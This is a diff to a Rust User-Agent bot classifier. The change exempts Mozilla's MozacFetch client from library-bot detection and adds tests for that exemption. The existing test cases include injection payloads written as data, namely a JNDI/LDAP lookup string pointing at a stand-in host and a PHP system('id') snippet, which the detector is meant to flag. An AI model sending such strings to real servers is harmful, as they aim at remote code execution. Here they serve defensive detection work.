@@ -282,8 +282,15 @@ fn address_host(ua: &[u8]) -> Option<(usize, usize)> {
 
 /// Words of the devices and players whose own User-Agent is one product
 /// (`iPhone15`, `Apple-iPad2C7/1002.329`, `Karbonn K595 WAP-Browser/1.0.0`,
-/// `iTunes-AppleTV/4.1`, `bPod`, `nook browser/1.0`).
-pub const LONE_DEVICES: [&str; 8] = ["iphone", "ipad", "apple", "wap", "browser", "tv", "pod", "nook"];
+/// `iTunes-AppleTV/4.1`, `bPod`, `nook browser/1.0`), and of a browser's own
+/// fetcher ([`BROWSER_FETCHERS`]).
+pub const LONE_DEVICES: [&str; 9] = ["iphone", "ipad", "apple", "wap", "browser", "tv", "pod", "nook", "mozac"];
+
+/// The first products of a browser's own HTTP client, which fetches for the
+/// person using it: `MozacFetch/49.0` (Mozilla's Android Components, which
+/// Firefox for Android downloads a person's files with). Neither the
+/// script's shape nor an HTTP library's name makes them a bot.
+pub const BROWSER_FETCHERS: [&str; 1] = ["mozac"];
 
 /// The shape of a script's User-Agent: one product and nothing else (a name
 /// of letters, digits, spaces and `._:%-`, then at most `/` and a version),
@@ -507,7 +514,7 @@ fn library(ua: &[u8]) -> bool {
     let start = ua.iter().take_while(|b| matches!(b, b' ' | b'\t')).count();
     let len = ua[start..].iter().take_while(|b| !matches!(b, b' ' | b'\t' | b'/' | b';' | b'(' | b')' | b',')).count();
     let first = &ua[start..start + len];
-    LIBRARY_WORDS.iter().any(|w| contains(first, w.as_bytes()))
+    !BROWSER_FETCHERS.iter().any(|f| starts_ci(first, f.as_bytes())) && LIBRARY_WORDS.iter().any(|w| contains(first, w.as_bytes()))
 }
 
 fn starts_ci(hay: &[u8], prefix: &[u8]) -> bool {
@@ -537,7 +544,11 @@ pub fn pcre() -> Vec<String> {
         format!("^(?!.*(?:{}))[a-z0-9 ._:%-]+(?:/v?[0-9][0-9.]*)?\\z", any(&LONE_DEVICES)),
         "^mozilla/[0-9][0-9.]*(?: [a-z0-9_.-]+| \\(compatible(?:; [a-z0-9_.-]+/[0-9][0-9.]*)?\\))?\\z".to_string(),
         format!("{no_engine}.*(?:https?://|www\\.|[a-z0-9._-]@[a-z0-9-]+\\.[a-z])"),
-        format!("{no_engine}[ \\t]*[^ \\t/;(),]*(?:{})", LIBRARY_WORDS.iter().map(|w| pcre_literal(w)).collect::<Vec<_>>().join("|")),
+        format!(
+            "{no_engine}(?![ \\t]*(?:{}))[ \\t]*[^ \\t/;(),]*(?:{})",
+            any(&BROWSER_FETCHERS),
+            LIBRARY_WORDS.iter().map(|w| pcre_literal(w)).collect::<Vec<_>>().join("|")
+        ),
     ]
 }
 
@@ -647,6 +658,8 @@ mod tests {
             assert_eq!(name(ua), None, "{ua}");
         }
         assert_eq!(bot(b"Google-HTTP-Java-Client/1.17.0-rc (gzip)").unwrap().signal, Signal::Library);
+        // a browser's own client fetches for its user
+        assert_eq!(bot(b"MozacFetch/49.0.20200702190156"), None);
         for (ua, signal) in [
             ("${jndi:ldap://x.example/a}", Signal::Injection),
             ("Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120 Safari/537.36 <?php system('id'); ?>", Signal::Injection),
@@ -683,6 +696,7 @@ mod tests {
             "iTunes-AppleTV/4.1",
             "bPod",
             "nook browser/1.0",
+            "MozacFetch/49.0.20200702190156",
             "Hakai/2.0 ",
             "Hakai/2.0\n",
             "Hakai/beta",
